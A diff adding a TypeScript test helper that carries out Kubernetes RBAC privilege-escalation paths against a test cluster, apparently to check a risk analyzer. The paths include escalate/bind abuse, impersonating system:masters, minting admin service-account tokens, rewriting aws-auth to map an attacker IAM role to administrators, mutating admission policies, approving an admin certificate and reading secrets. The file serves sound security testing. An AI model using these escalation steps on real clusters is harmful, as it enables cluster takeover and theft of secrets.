@@ -1,0 +1,824 @@
+import { Buffer } from 'node:buffer';
+import * as v from 'valibot';
+import { expect, vi } from 'vitest';
+import type { Risk } from '../../src/rbac/ways.ts';
+import { adminToken, callApi } from './api.ts';
+import { sessionOf, tokenOf } from './callers.ts';
+import { setAwsAuth } from './control.ts';
+import { answerWebhook } from './mutating-webhook.ts';
+import { API, reviewed } from './rbac-cluster.ts';
+import type { Manifest, Rule } from './rbac-sets.ts';
+
+/** Ways to become administrator, carried out by somebody who has these rights and no other. */
+
+const GROUP = 'rbac.authorization.k8s.io';
+const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
+const CERTIFICATES = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
+/** A namespace with a service account that is administrator, as that of Argo CD is. */
+const PAYMENTS = 'payments';
+const ARGOCD = 'system:serviceaccount:payments:argocd';
+const AGGREGATION = 'clusterrole-aggregation-controller';
+const PLATFORM = 'platform-admins';
+
+export interface Attempt {
+  readonly risk: Risk;
+  /** What is tried, in a few words. */
+  readonly title: string;
+  readonly rights: readonly Right[];
+  /** Answers who in the end may do what an administrator may. */
+  readonly run: (me: Caller) => Promise<Caller>;
+  /** What is said of the first step that fails; undefined where none does. */
+  readonly refusal?: RegExp;
+  /** What the one who comes out of it is asked to do; by default, everything. */
+  readonly proof?: (who: Caller) => Promise<unknown>;
+}
+
+export interface Right {
+  readonly rules: readonly Rule[];
+  /** Of a Role and its RoleBinding; undefined: cluster-wide. */
+  readonly namespace?: string;
+}
+
+/** Calls the API server as somebody. */
+export class Caller {
+  readonly name: string;
+  private readonly token: () => string;
+  private readonly headers: Readonly<Record<string, string | string[]>>;
+
+  constructor(name: string, token: () => string, headers: Readonly<Record<string, string | string[]>> = {}) {
+    this.name = name;
+    this.token = token;
+    this.headers = headers;
+  }
+
+  get(path: string): Promise<unknown> {
+    return callApi('GET', path, this.token(), undefined, this.headers);
+  }
+
+  post(path: string, body: unknown): Promise<unknown> {
+    return callApi('POST', path, this.token(), body, this.headers);
+  }
+
+  put(path: string, body: unknown): Promise<unknown> {
+    return callApi('PUT', path, this.token(), body, this.headers);
+  }
+
+  delete(path: string): Promise<unknown> {
+    return callApi('DELETE', path, this.token(), undefined, this.headers);
+  }
+
+  patch(path: string, body: unknown): Promise<unknown> {
+    const headers = { ...this.headers, 'content-type': 'application/merge-patch+json' };
+    return callApi('PATCH', path, this.token(), body, headers);
+  }
+
+  withOneToken(): Caller {
+    const token = this.token();
+    return new Caller(this.name, () => token, this.headers);
+  }
+
+  as(user: string | null, ...groups: readonly string[]): Caller {
+    return new Caller(this.name, this.token, {
+      ...(user !== null && { 'impersonate-user': user }),
+      ...(groups.length > 0 && { 'impersonate-group': [...groups] }),
+    });
+  }
+
+  /** A token of a service account, which is a caller of its own. */
+  async tokenFor(namespace: string, account: string): Promise<Caller> {
+    const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
+    const { status } = v.parse(tokenSchema, await this.post(path, { spec: {} }));
+    return new Caller(account, () => status.token);
+  }
+}
+
+const tokenSchema = v.object({ status: v.object({ token: v.string() }) });
+
+export const ROLE = 'arn:aws:iam::111122223333:role/attacker';
+export const EVIL = 'arn:aws:iam::111122223333:role/evil';
+/** The username is the name of the session. */
+export const OWN_AWS_AUTH = `- {rolearn: "${ROLE}", username: "{{SessionName}}", groups: []}\n`;
+const WITH_EVIL = `${OWN_AWS_AUTH}- {rolearn: "${EVIL}", username: evil, groups: [system:masters]}\n`;
+
+export function callerOf(rolearn: string, session: string): Caller {
+  return new Caller(session, () => tokenOf(sessionOf(rolearn, session)));
+}
+
+const administrator = new Caller('administrator', adminToken);
+const evil = callerOf(EVIL, 'evil');
+
+const rule = (verbs: string, apiGroup: string, resources: string, ...resourceNames: string[]): Rule => ({
+  verbs: verbs.split(' '),
+  apiGroups: [apiGroup],
+  resources: resources.split(' '),
+  ...(resourceNames.length > 0 && { resourceNames }),
+});
+const everywhere = (...rules: Rule[]): Right => ({ rules });
+const within = (namespace: string, ...rules: Rule[]): Right => ({ rules, namespace });
+
+const ALL: readonly Rule[] = [
+  { verbs: ['*'], apiGroups: ['*'], resources: ['*'] },
+  { verbs: ['*'], nonResourceURLs: ['*'] },
+];
+const ALL_IN_NAMESPACE = ALL.slice(0, 1);
+const binding = (kind: string, name: string, role: string, subjects: readonly object[]) => ({
+  apiVersion: `${GROUP}/v1`,
+  kind,
+  metadata: { name },
+  roleRef: { apiGroup: GROUP, kind: 'ClusterRole', name: role },
+  subjects,
+});
+const user = (name: string) => ({ apiGroup: GROUP, kind: 'User', name });
+const bindMe = (name: string) => binding('ClusterRoleBinding', `of-${name}`, 'cluster-admin', [user(name)]);
+const bindMeIn = (name: string) => binding('RoleBinding', `of-${name}`, 'cluster-admin', [user(name)]);
+const rolesIn = (namespace: string) => `${API}/namespaces/${namespace}/roles`;
+const bindingsIn = (namespace: string) => `${API}/namespaces/${namespace}/rolebindings`;
+const AWS_AUTH = '/api/v1/namespaces/kube-system/configmaps/aws-auth';
+const awsAuth = { metadata: { name: 'aws-auth' }, data: { mapRoles: WITH_EVIL } };
+
+/** Until the API server knows of what was just done. */
+function eventually<Result>(run: () => Promise<Result>): Promise<Result> {
+  return vi.waitFor(run, { timeout: 20_000, interval: 50 });
+}
+
+export async function requireEverything(who: Caller): Promise<void> {
+  for (const attributes of [
+    { resourceAttributes: { verb: '*', group: '*', resource: '*' } },
+    { nonResourceAttributes: { verb: '*', path: '*' } },
+  ]) {
+    const review = {
+      apiVersion: 'authorization.k8s.io/v1',
+      kind: 'SelfSubjectAccessReview',
+      spec: attributes,
+    };
+    expect(reviewed(await who.post('/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', review))).toBe(
+      true,
+    );
+  }
+}
+
+const secretsSchema = v.object({ items: v.array(v.object({ metadata: v.object({ name: v.string() }) })) });
+
+async function requireSecrets(who: Caller, path: string, name: string): Promise<void> {
+  const { items } = v.parse(secretsSchema, await who.get(path));
+  expect(items.map(({ metadata }) => metadata.name)).toContain(name);
+}
+
+const readsAllSecrets = (who: Caller) => requireSecrets(who, '/api/v1/secrets', 'of-payments');
+const readsSystemSecrets = (who: Caller) =>
+  requireSecrets(who, '/api/v1/namespaces/kube-system/secrets', 'of-kube-system');
+
+/** Whoever may do everything in a namespace takes the token of its service account. */
+async function throughArgocd(me: Caller): Promise<Caller> {
+  return eventually(() => me.tokenFor(PAYMENTS, 'argocd'));
+}
+
+/** This controller may write any right into any role, its own for one. */
+async function throughController(me: Caller): Promise<Caller> {
+  const controller = await eventually(() => me.tokenFor('kube-system', AGGREGATION));
+  await controller.patch(`${API}/clusterroles/system:controller:${AGGREGATION}`, { rules: ALL });
+  return controller;
+}
+
+const clusterRole = (name: string) => `${API}/clusterroles/${name}`;
+
+/** Rights with which the attempts are told apart have the names of their holders, see `rightsOf`. */
+export function holderOf(index: number): string {
+  return `attacker-${index}`;
+}
+
+export function manifestsFor(name: string, rights: readonly Right[]): Manifest[] {
+  return rights.flatMap(({ rules, namespace }, index) => {
+    const kind = namespace === undefined ? 'ClusterRole' : 'Role';
+    const metadata = { name: `${name}-${index}`, ...(namespace !== undefined && { namespace }) };
+    const roleRef = { apiGroup: GROUP, kind, name: metadata.name };
+    return [
+      { apiVersion: `${GROUP}/v1`, kind, metadata, rules },
+      { apiVersion: `${GROUP}/v1`, kind: `${kind}Binding`, metadata, roleRef, subjects: [user(name)] },
+    ];
+  });
+}
+
+const AUTHENTICATION = 'authentication.k8s.io';
+const impersonate = (resources: string, ...names: string[]) => rule('impersonate', '', resources, ...names);
+const asUserInfo = (resources: string, ...names: string[]) =>
+  rule('impersonate:user-info', AUTHENTICATION, resources, ...names);
+const onBehalf = (verb: string, apiGroup: string, resource: string) =>
+  rule(`impersonate-on:user-info:${verb}`, apiGroup, resource);
+const escalate = (...names: string[]) => rule('escalate', GROUP, 'clusterroles', ...names);
+const bind = (...names: string[]) => rule('bind', GROUP, 'clusterroles', ...names);
+const write = (verbs: string, resources: string, ...names: string[]) =>
+  rule(verbs, GROUP, resources, ...names);
+const admission = (verbs: string, resources: string) =>
+  rule(verbs, 'admissionregistration.k8s.io', resources);
+const configMaps = (verbs: string, ...names: string[]) =>
+  within('kube-system', rule(verbs, '', 'configmaps', ...names));
+
+const POLICY = {
+  apiVersion: 'admissionregistration.k8s.io/v1',
+  kind: 'MutatingAdmissionPolicy',
+  metadata: { name: 'helper' },
+  spec: {
+    failurePolicy: 'Ignore',
+    reinvocationPolicy: 'Never',
+    matchConstraints: {
+      resourceRules: [
+        {
+          apiGroups: [''],
+          apiVersions: ['v1'],
+          operations: ['UPDATE'],
+          resources: ['configmaps'],
+          resourceNames: ['aws-auth'],
+        },
+      ],
+    },
+    mutations: [
+      {
+        patchType: 'ApplyConfiguration',
+        applyConfiguration: { expression: `Object{data: {"mapRoles": ${JSON.stringify(WITH_EVIL)}}}` },
+      },
+    ],
+  },
+};
+const HARMLESS = {
+  ...POLICY,
+  spec: {
+    ...POLICY.spec,
+    mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{}' } }],
+  },
+};
+const POLICY_BINDING = {
+  apiVersion: 'admissionregistration.k8s.io/v1',
+  kind: 'MutatingAdmissionPolicyBinding',
+  metadata: { name: 'helper' },
+  spec: { policyName: 'helper' },
+};
+
+/** An administrator changes something else of aws-auth, until the one who waits for it gets in. */
+async function whenChanged(): Promise<Caller> {
+  await eventually(async () => {
+    await administrator.patch(AWS_AUTH, { metadata: { annotations: { changed: String(Date.now()) } } });
+    await requireEverything(evil);
+  });
+  return evil;
+}
+
+const REFUSED = /: 403 /;
+const NOT_HELD = /: 403 .*attempting to grant RBAC permissions not currently held/s;
+
+/** What is carried out, or refused: both are what the program says of whoever has these rights. */
+export const ATTEMPTS: readonly Attempt[] = [
+  { risk: 'cluster-admin', title: 'everything', rights: [everywhere(...ALL)], run: async (me) => me },
+  {
+    risk: 'system-admin',
+    title: 'everything in kube-system',
+    rights: [within('kube-system', ...ALL_IN_NAMESPACE)],
+    run: throughController,
+  },
+  ...(['patch', 'update'] as const).map(
+    (verb): Attempt => ({
+      risk: 'escalate',
+      title: `escalate and ${verb} of the own role`,
+      rights: [everywhere(escalate(), write(verb, 'clusterroles'))],
+      run: async (me) => {
+        const [path, role] = [
+          clusterRole(`${me.name}-0`),
+          { metadata: { name: `${me.name}-0` }, rules: ALL },
+        ];
+        await (verb === 'patch' ? me.patch(path, { rules: ALL }) : me.put(path, role));
+        return me;
+      },
+    }),
+  ),
+  {
+    risk: 'escalate',
+    title: 'escalate and create of a role that the own role takes in',
+    rights: [everywhere(escalate(), write('create', 'clusterroles'))],
+    run: async (me) => {
+      const aggregationRule = { clusterRoleSelectors: [{ matchLabels: { 'taken-in': me.name } }] };
+      await administrator.post(`${API}/clusterroles`, {
+        metadata: { name: `all-${me.name}` },
+        aggregationRule,
+      });
+      await administrator.post(
+        `${API}/clusterrolebindings`,
+        binding('ClusterRoleBinding', `all-${me.name}`, `all-${me.name}`, [user(me.name)]),
+      );
+      const labels = { 'taken-in': me.name };
+      await me.post(`${API}/clusterroles`, { metadata: { name: `new-${me.name}`, labels }, rules: ALL });
+      return me;
+    },
+  },
+  {
+    risk: 'escalate',
+    title: 'escalate and patch of a role in a namespace with a powerful service account',
+    rights: [within(PAYMENTS, rule('escalate patch', GROUP, 'roles'))],
+    run: async (me) => {
+      await me.patch(`${rolesIn(PAYMENTS)}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
+      return throughArgocd(me);
+    },
+  },
+  {
+    risk: 'escalate',
+    title: 'escalate and patch of a role in kube-system',
+    rights: [within('kube-system', rule('escalate patch', GROUP, 'roles'))],
+    run: async (me) => {
+      await me.patch(`${rolesIn('kube-system')}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
+      return throughController(me);
+    },
+  },
+  {
+    risk: 'escalate',
+    title: 'escalate alone',
+    rights: [everywhere(escalate())],
+    run: async (me) => {
+      await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
+      return me;
+    },
+    refusal: REFUSED,
+  },
+  {
+    risk: 'escalate',
+    title: 'patch of roles alone',
+    rights: [everywhere(write('patch update create', 'clusterroles'))],
+    run: async (me) => {
+      await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
+      return me;
+    },
+    refusal: NOT_HELD,
+  },
+  {
+    risk: 'escalate',
+    title: 'escalate of another role than may be written',
+    rights: [everywhere(escalate('view'), write('patch', 'clusterroles', 'edit'))],
+    run: async (me) => {
+      await me.patch(`${clusterRole('edit')}?dryRun=All`, { rules: ALL });
+      return me;
+    },
+    refusal: NOT_HELD,
+  },
+  {
+    risk: 'bind',
+    title: 'bind and create of a cluster role binding',
+    rights: [everywhere(bind('cluster-admin'), write('create', 'clusterrolebindings'))],
+    run: async (me) => {
+      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+  },
+  {
+    risk: 'bind',
+    title: 'bind and patch of a cluster role binding that is there',
+    rights: [everywhere(bind(), write('patch', 'clusterrolebindings', PLATFORM))],
+    run: async (me) => {
+      await me.patch(`${API}/clusterrolebindings/${PLATFORM}`, { subjects: [user(me.name), PLATFORM_GROUP] });
+      return me;
+    },
+  },
+  {
+    risk: 'bind',
+    title: 'bind and create of a role binding in a namespace with a powerful service account',
+    rights: [within(PAYMENTS, bind(), write('create', 'rolebindings'))],
+    run: async (me) => {
+      await me.post(bindingsIn(PAYMENTS), bindMeIn(me.name));
+      return throughArgocd(me);
+    },
+  },
+  {
+    risk: 'bind',
+    title: 'bind cluster-wide and create of a role binding in kube-system',
+    rights: [everywhere(bind()), within('kube-system', write('create', 'rolebindings'))],
+    run: async (me) => {
+      await me.post(bindingsIn('kube-system'), bindMeIn(me.name));
+      return throughController(me);
+    },
+  },
+  {
+    risk: 'bind',
+    title: 'bind alone',
+    rights: [everywhere(bind())],
+    run: async (me) => {
+      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: REFUSED,
+  },
+  {
+    risk: 'bind',
+    title: 'create of bindings alone',
+    rights: [everywhere(write('create patch', 'clusterrolebindings'))],
+    run: async (me) => {
+      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: NOT_HELD,
+  },
+  {
+    risk: 'bind',
+    title: 'bind of a harmless role',
+    rights: [everywhere(bind('system:discovery'), write('create', 'clusterrolebindings'))],
+    run: async (me) => {
+      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: NOT_HELD,
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of a user who is administrator',
+    rights: [everywhere(impersonate('users'))],
+    run: async (me) => me.as('alice'),
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of the user of the controllers',
+    rights: [everywhere(impersonate('users', 'system:kube-controller-manager'))],
+    run: async (me) => {
+      await readsAllSecrets(me.as('system:kube-controller-manager'));
+      return me.as('system:kube-controller-manager').tokenFor(PAYMENTS, 'argocd');
+    },
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of service accounts in a namespace with a powerful one',
+    rights: [within(PAYMENTS, impersonate('serviceaccounts'))],
+    run: async (me) => me.as(ARGOCD),
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of groups, with a harmless user by name',
+    rights: [everywhere(impersonate('groups'), impersonate('users', 'bob'))],
+    run: async (me) => me.as('bob', 'system:masters'),
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of system:masters, with any service account of one harmless namespace',
+    rights: [
+      everywhere(impersonate('groups', 'system:masters')),
+      within('empty', impersonate('serviceaccounts')),
+    ],
+    run: async (me) => me.as('system:serviceaccount:empty:nobody', 'system:masters'),
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of groups, without a user',
+    rights: [everywhere(impersonate('groups'))],
+    run: async (me) => me.as(null, 'system:masters'),
+    refusal: /: 400 .*without impersonating a user name/s,
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of groups, as oneself',
+    rights: [everywhere(impersonate('groups'))],
+    run: async (me) => me.as(me.name, 'system:masters'),
+    refusal: REFUSED,
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of a service account as a user',
+    rights: [everywhere(impersonate('users', ARGOCD))],
+    run: async (me) => me.as(ARGOCD),
+    refusal: REFUSED,
+  },
+  {
+    risk: 'impersonate',
+    title: 'impersonate of users by a role in a namespace',
+    rights: [within(PAYMENTS, impersonate('users groups'))],
+    run: async (me) => me.as('alice'),
+    refusal: REFUSED,
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'a binding on behalf of a group of administrators',
+    rights: [everywhere(asUserInfo('users groups'), onBehalf('create', GROUP, 'clusterrolebindings'))],
+    run: async (me) => {
+      await me.as('bob', PLATFORM).post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'a token on behalf of the user of the controllers',
+    rights: [
+      everywhere(
+        asUserInfo('users', 'system:kube-controller-manager'),
+        onBehalf('create', '', 'serviceaccounts/token'),
+      ),
+    ],
+    run: (me) => me.as('system:kube-controller-manager').tokenFor(PAYMENTS, 'argocd'),
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'a binding on behalf of a powerful service account',
+    rights: [
+      within(PAYMENTS, rule('impersonate:serviceaccount', AUTHENTICATION, 'serviceaccounts')),
+      everywhere(rule('impersonate-on:serviceaccount:create', GROUP, 'clusterrolebindings')),
+    ],
+    run: async (me) => {
+      await me.as(ARGOCD).post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'impersonate:user-info alone',
+    rights: [everywhere(asUserInfo('users groups'))],
+    run: async (me) => {
+      await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: /: 403 .*cannot impersonate-on:user-info:create/s,
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'impersonate-on alone',
+    rights: [everywhere(onBehalf('create', GROUP, 'clusterrolebindings'))],
+    run: async (me) => {
+      await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: /: 403 .*cannot impersonate:user-info/s,
+  },
+  {
+    risk: 'impersonate-constrained',
+    title: 'a binding on behalf of system:masters, by name',
+    rights: [
+      everywhere(
+        asUserInfo('users', 'bob'),
+        asUserInfo('groups', 'system:masters'),
+        onBehalf('create', GROUP, 'clusterrolebindings'),
+      ),
+    ],
+    run: async (me) => {
+      await me.as('bob', 'system:masters').post(`${API}/clusterrolebindings`, bindMe(me.name));
+      return me;
+    },
+    refusal: /: 403 .*impersonating the system:masters group is not allowed/s,
+  },
+  {
+    risk: 'create-tokens',
+    title: 'a token of a controller in kube-system',
+    rights: [within('kube-system', rule('create', '', 'serviceaccounts/token', AGGREGATION))],
+    run: throughController,
+  },
+  {
+    risk: 'create-tokens',
+    title: 'a token of a powerful service account in another namespace',
+    rights: [within(PAYMENTS, rule('create', '', 'serviceaccounts/token'))],
+    run: throughArgocd,
+  },
+  {
+    risk: 'create-tokens',
+    title: 'a token of a harmless service account',
+    rights: [within('empty', rule('create', '', 'serviceaccounts/token'))],
+    run: (me) => me.tokenFor('empty', 'default'),
+    refusal: /expected false to be true/,
+  },
+  {
+    risk: 'edit-aws-auth',
+    title: 'patch of aws-auth',
+    rights: [configMaps('patch', 'aws-auth')],
+    run: async (me) => {
+      await me.patch(AWS_AUTH, { data: awsAuth.data });
+      return evil;
+    },
+  },
+  {
+    risk: 'edit-aws-auth',
+    title: 'update of aws-auth',
+    rights: [configMaps('update', 'aws-auth')],
+    run: async (me) => {
+      await me.put(AWS_AUTH, awsAuth);
+      return evil;
+    },
+  },
+  {
+    risk: 'edit-aws-auth',
+    title: 'delete and create of aws-auth',
+    rights: [configMaps('delete', 'aws-auth'), configMaps('create')],
+    run: async (me) => {
+      // The map that lets them in is gone with it, but for ten seconds the API server remembers a token.
+      const still = me.withOneToken();
+      await still.delete(AWS_AUTH);
+      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
+      return evil;
+    },
+  },
+  {
+    risk: 'edit-aws-auth',
+    title: 'delete of all config maps and create of aws-auth',
+    rights: [configMaps('deletecollection'), configMaps('create')],
+    run: async (me) => {
+      const still = me.withOneToken();
+      await still.delete('/api/v1/namespaces/kube-system/configmaps?fieldSelector=metadata.name%3Daws-auth');
+      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
+      return evil;
+    },
+  },
+  {
+    risk: 'edit-aws-auth',
+    title: 'create of config maps, where aws-auth is there',
+    rights: [configMaps('create')],
+    run: async (me) => {
+      await me.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
+      return evil;
+    },
+    refusal: /: 409 /,
+  },
+  {
+    risk: 'edit-webhooks',
+    title: 'a webhook that changes aws-auth',
+    rights: [everywhere(admission('create', 'mutatingwebhookconfigurations'))],
+    run: async (me) => {
+      await me.post(`${ADMISSION}/mutatingwebhookconfigurations`, await answerWebhook(WITH_EVIL));
+      return whenChanged();
+    },
+  },
+  {
+    risk: 'edit-mutating-policies',
+    title: 'a policy and its binding that change aws-auth',
+    rights: [everywhere(admission('create', 'mutatingadmissionpolicies mutatingadmissionpolicybindings'))],
+    run: async (me) => {
+      await me.post(`${ADMISSION}/mutatingadmissionpolicies`, POLICY);
+      await me.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
+      return whenChanged();
+    },
+  },
+  {
+    risk: 'edit-mutating-policies',
+    title: 'other content for a policy that is bound',
+    rights: [everywhere(admission('patch', 'mutatingadmissionpolicies'))],
+    run: async (me) => {
+      await administrator.post(`${ADMISSION}/mutatingadmissionpolicies`, HARMLESS);
+      await administrator.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
+      await me.patch(`${ADMISSION}/mutatingadmissionpolicies/helper`, { spec: POLICY.spec });
+      return whenChanged();
+    },
+  },
+  {
+    risk: 'edit-mutating-policies',
+    title: 'a policy without a binding',
+    rights: [everywhere(admission('create', 'mutatingadmissionpolicies'))],
+    run: async (me) => {
+      await me.post(`${ADMISSION}/mutatingadmissionpolicies`, POLICY);
+      await me.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
+      return evil;
+    },
+    refusal: REFUSED,
+  },
+  ...(['get', 'list', 'watch'] as const).map(
+    (verb): Attempt => ({
+      risk: 'read-secrets',
+      title: `${verb} of all secrets`,
+      rights: [everywhere(rule(verb, '', 'secrets'))],
+      run: async (me) => me,
+      proof: (me) => readSecret(me, verb, PAYMENTS, 'of-payments'),
+    }),
+  ),
+  {
+    risk: 'read-secrets',
+    title: 'all secrets by a role in one namespace',
+    rights: [within('empty', rule('get list watch', '', 'secrets'))],
+    run: async (me) => me,
+    proof: readsAllSecrets,
+    refusal: REFUSED,
+  },
+  {
+    risk: 'read-system-secrets',
+    title: 'list of the secrets of kube-system',
+    rights: [within('kube-system', rule('list', '', 'secrets'))],
+    run: async (me) => me,
+    proof: readsSystemSecrets,
+  },
+  {
+    risk: 'approve-certificates',
+    title: 'approval of a certificate that makes administrators',
+    rights: [
+      everywhere(
+        rule('update', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
+        rule('approve', 'certificates.k8s.io', 'signers', 'kubernetes.io/kube-apiserver-client'),
+      ),
+    ],
+    run: approve,
+    proof: requireApproved,
+  },
+  {
+    risk: 'approve-certificates',
+    title: 'approval without the right for the signer',
+    rights: [everywhere(rule('update', 'certificates.k8s.io', 'certificatesigningrequests/approval'))],
+    run: approve,
+    proof: requireApproved,
+    refusal: /: 403 .*user not permitted to approve requests/s,
+  },
+  {
+    risk: 'exec',
+    title: 'exec with get alone',
+    rights: [everywhere(rule('get', '', 'pods/exec pods/attach'))],
+    run: async (me) => {
+      await me.get(`/api/v1/namespaces/${PAYMENTS}/pods/web/exec?command=id&container=web`);
+      return me;
+    },
+    refusal: REFUSED,
+  },
+];
+
+const PLATFORM_GROUP = { apiGroup: GROUP, kind: 'Group', name: PLATFORM };
+
+async function readSecret(
+  me: Caller,
+  verb: 'get' | 'list' | 'watch',
+  namespace: string,
+  name: string,
+): Promise<void> {
+  const path = `/api/v1/namespaces/${namespace}/secrets`;
+  if (verb === 'list') return requireSecrets(me, path, name);
+  // One event: the secret, which is there.
+  const watched = `${path}?watch=1&resourceVersion=0&timeoutSeconds=1&fieldSelector=metadata.name%3D${name}`;
+  const answer = await me.get(verb === 'get' ? `${path}/${name}` : watched);
+  expect(JSON.stringify(answer)).toContain(Buffer.from(SECRET).toString('base64'));
+}
+
+const SECRET = 'not for everybody';
+
+const REQUEST = 'for-an-administrator';
+
+/** Somebody has asked for a certificate of an administrator; nothing here signs what is approved. */
+async function approve(me: Caller): Promise<Caller> {
+  const asked = v.parse(v.looseObject({}), await administrator.get(`${CERTIFICATES}/${REQUEST}`));
+  const condition = { type: 'Approved', status: 'True', reason: 'Test', message: 'by somebody' };
+  await me.put(`${CERTIFICATES}/${REQUEST}/approval`, { ...asked, status: { conditions: [condition] } });
+  return me;
+}
+
+async function requireApproved(): Promise<void> {
+  expect(await administrator.get(`${CERTIFICATES}/${REQUEST}`)).toMatchObject({
+    status: { conditions: [{ type: 'Approved' }] },
+  });
+}
+
+/** PKCS #10 for CN=evil, O=platform-admins; made once, for a key that is gone. */
+const CSR = [
+  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ2JqQ0NBVllDQVFBd0tURVlNQllHQTFVRUNnd1BjR3hoZEda',
+  'dmNtMHRZV1J0YVc1ek1RMHdDd1lEVlFRRApEQVJsZG1sc01JSUJJakFOQmdrcWhraUc5dzBCQVFFRkFBT0NBUThBTUlJQkNnS0NB',
+  'UUVBMmllbmtadHM0YW1wCnptcEoydTZmU09PK3FHbE5iRytKMVRhMm5ZYjZjQW80bEhNRnZTUjQ2cmxXcEhQeTBhYTdkS1VjTCtp',
+  'V1N3NHEKcUVjZkdMN293L0VVWW91Z0FLa0p6Sk5lUk1QOFczSmx1RFZIbWFMeTROSUNLYnZHdlUrMlpmM2lkRTF5VFlLMQpSenFy',
+  'eXI4Y1JXVThqcnlxY05LcEY0SWIzcHIrMS9VSWRjUjNUdGsvMCtXWWpLU1l6RlJrOGcwVmpwZnNUcmRjCmJYcVV3S3lSU0NHUXdM',
+  'UmFkVjB0RVQ4OGF6K1ZvZXNDK1dyeGVja056eDNTWm9wdEhCM3drbUc3MlYvOVBsRmIKZVpaRy95NWdaWkNDWnJwVVNXUjFQOHVS',
+  'enI2Y3VmNVk1bjRHYkNiZWsxeDR2bEF4MHZDZ3ZSMkZha0RlWmZidwpKNzhDSGlSZUNRSURBUUFCb0FBd0RRWUpLb1pJaHZjTkFR',
+  'RUxCUUFEZ2dFQkFHSlpvc2dSVmtYRHdZbHlybU9lCkN6d2tIT1QwVHBXYXo2T1picUlZQ2h3bVMvQk1mS0lwcEVUb2RoemhrSTdu',
+  'Z1pHdkpaZWh5c3cxK0dKdTQzNmEKTjJLdmtTRS93VXpqTFhEeHFxTWZpNkQ2RUhzNlpqTkNnM1U2ekJ3VEpRYTNEdjlwYjgyaldj',
+  'MDZ0YTBvZFBFSgppeWRXM24wUFBFZ3NXSC9XamZTUTh5RTJoOFJOdlRuZXM2QkFPeWJ6OFdXSXJ2QUdxaGFpcFpjb2o5eGJzcUc3',
+  'ClVmdXQvYWV0dVdndmtrZGpOYXIrWDVWM2V0V1dzNmJEZ0FsSXd3d2MveWN2RUQrNVl5OExoR2t5UkZaempoa3MKUC95dzNaZzNC',
+  'WlV3ZFZWOWlHUXQzdmdVblhaV2NZZzlxM0hqYnd2aHlsQkp2UVZIN3JmeXVkUzdyWHdWWldrdApDdE09Ci0tLS0tRU5EIENFUlRJ',
+  'RklDQVRFIFJFUVVFU1QtLS0tLQo=',
+].join('');
+
+/** What there is in a cluster, beside whoever tries something. */
+export async function makeSurroundings(): Promise<void> {
+  await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
+  for (const name of [PAYMENTS, 'empty'])
+    await administrator.post('/api/v1/namespaces', { metadata: { name } });
+  for (const namespace of [PAYMENTS, 'kube-system']) {
+    const secret = { metadata: { name: `of-${namespace}` }, stringData: { key: SECRET } };
+    await administrator.post(`/api/v1/namespaces/${namespace}/secrets`, secret);
+  }
+  const accounts = { [PAYMENTS]: 'argocd', 'kube-system': AGGREGATION, empty: 'default' };
+  for (const [namespace, name] of Object.entries(accounts))
+    await administrator.post(`/api/v1/namespaces/${namespace}/serviceaccounts`, { metadata: { name } });
+  const pod = {
+    metadata: { name: 'web' },
+    spec: { nodeName: 'none', containers: [{ name: 'web', image: 'web' }] },
+  };
+  await administrator.post(`/api/v1/namespaces/${PAYMENTS}/pods`, pod);
+  await administrator.post(CERTIFICATES, {
+    metadata: { name: REQUEST },
+    spec: { request: CSR, signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
+  });
+  const subjects = [
+    PLATFORM_GROUP,
+    user('alice'),
+    { kind: 'ServiceAccount', name: 'argocd', namespace: PAYMENTS },
+  ];
+  for (const [index, subject] of subjects.entries()) {
+    const name = index === 0 ? PLATFORM : `administrator-${index}`;
+    await administrator.post(
+      `${API}/clusterrolebindings`,
+      binding('ClusterRoleBinding', name, 'cluster-admin', [subject]),
+    );
+  }
+}
+
+/** Undoes what an attempt has done to what all of them share. */
+export async function restoreSurroundings(): Promise<void> {
+  const rules = [rule('escalate get list patch update watch', GROUP, 'clusterroles')];
+  await administrator.patch(clusterRole(`system:controller:${AGGREGATION}`), { rules });
+  for (const kind of [
+    'mutatingadmissionpolicybindings',
